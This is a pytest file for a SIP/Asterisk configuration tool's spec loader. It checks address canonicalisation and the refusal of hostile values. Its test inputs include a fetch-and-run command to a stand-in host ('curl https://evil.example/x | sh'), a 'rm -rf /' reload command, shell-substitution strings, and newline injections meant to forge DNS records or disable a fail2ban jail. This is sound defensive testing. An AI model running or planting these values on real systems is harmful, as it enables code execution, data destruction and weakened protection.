"""Values are data: addresses are canonical, commands are words, hostile values are refused."""

from __future__ import annotations

import pytest

from sipctl.errors import SpecError
from sipctl.schemas.checks import cross_warnings
from sipctl.schemas.loader import load_spec_text
from sipctl.schemas.values import split_command

BASE = "version: 1\ndomain: mysite.ru\n"


def refused(extra: str) -> str:
    with pytest.raises(SpecError) as info:
        load_spec_text(BASE + extra, source="s.yaml")
    return "\n".join(info.value.problems or [str(info.value)])


def test_addresses_are_stored_as_their_canonical_text() -> None:
    loaded = load_spec_text(
        BASE + "servers:\n  - host: sip.mysite.ru\n    ipv6: ['2001:DB8:0:0::0001']\n"
        "    ipv4: [192.0.2.1]\n"
        "fail2ban:\n  ignoreip: ['2001:DB8::/32', 192.0.2.7/24, 198.51.100.9/32, '::FFFF:1']\n"
    )
    assert loaded.spec.servers[0].ipv6 == ("2001:db8::1",)
    assert loaded.spec.fail2ban is not None
    assert loaded.spec.fail2ban.ignoreip == (
        "2001:db8::/32",
        "192.0.2.0/24",
        "198.51.100.9",
        "::ffff:1",
    )


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("'2001:db8::1%x\\n@ IN A 6.6.6.6'", "scope id"),  # the forged-records exploit
        ("'fe80::1%eth0'", "scope id"),
        ("'::'", "unspecified"),
        ("'ff02::1'", "multicast"),
    ],
)
def test_server_ipv6_addresses_that_are_no_server(value: str, reason: str) -> None:
    text = f"servers:\n  - host: sip.mysite.ru\n    ipv6: [{value}]\n".replace("\\n", "\\\\n")
    assert reason in refused(text.replace("'", '"'))


@pytest.mark.parametrize(
    ("value", "reason"),
    [("0.0.0.0", "unspecified"), ("255.255.255.255", "broadcast"), ("224.0.0.1", "multicast")],
)
def test_server_ipv4_addresses_that_are_no_server(value: str, reason: str) -> None:
    assert reason in refused(f"servers:\n  - host: sip.mysite.ru\n    ipv4: [{value}]\n")


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("0.0.0.0/0", "covers every address"),
        ("'::/0'", "covers every address"),
        ("0.0.0.0", "unspecified"),
        ("'fe80::1%eth0'", "scope id"),
        ('"10.0.0.1\\n[sshd]\\nenabled = false"', "U+000A"),
        ("'10.0.0.1 [evil]'", "not an address or network"),
    ],
)
def test_ignoreip_that_would_break_or_empty_the_jail(value: str, reason: str) -> None:
    assert reason in refused(f"fail2ban:\n  ignoreip: [{value}]\n")


def test_a_very_wide_ignoreip_is_a_warning() -> None:
    loaded = load_spec_text(BASE + "fail2ban:\n  ignoreip: [10.0.0.0/8, 0.0.0.0/1, '2000::/3']\n")
    notes = [n for n in cross_warnings(loaded) if "ignoreip" in n]
    assert len(notes) == 2 and "0.0.0.0/1" in notes[0] and "2000::/3" in notes[1]


@pytest.mark.parametrize(
    "command",
    [
        "curl https://evil.example/x | sh; asterisk",
        "asterisk && reboot",
        "asterisk $(id)",
        "asterisk `id`",
        "asterisk > /etc/passwd",
        "asterisk < /dev/zero",
        "(asterisk)",
        "{ asterisk; }",
        "asterisk &",
        "'unbalanced",
        "   ",
    ],
)
@pytest.mark.parametrize("key", ["asterisk:\n  command", "fail2ban:\n  command"])
def test_a_command_with_shell_syntax_is_refused_naming_the_key(key: str, command: str) -> None:
    quoted = '"' + command.replace("\\", "\\\\").replace('"', '\\"') + '"'
    problems = refused(f"{key}: {quoted}\n")
    section = key.split(":")[0]
    assert f"s.yaml:4:3: {section}.command:" in problems, problems


def test_dns_reload_command_follows_the_same_rule() -> None:
    extra = "dns:\n  provider: zonefile\n  file: z\n  reload_command: rndc reload; rm -rf /\n"
    assert "dns.reload_command: " in refused(extra)


def test_a_command_is_split_once_into_words() -> None:
    loaded = load_spec_text(BASE + "asterisk:\n  command: docker exec 'my pbx' asterisk\n")
    assert loaded.spec.asterisk is not None
    assert split_command(loaded.spec.asterisk.command) == ("docker", "exec", "my pbx", "asterisk")
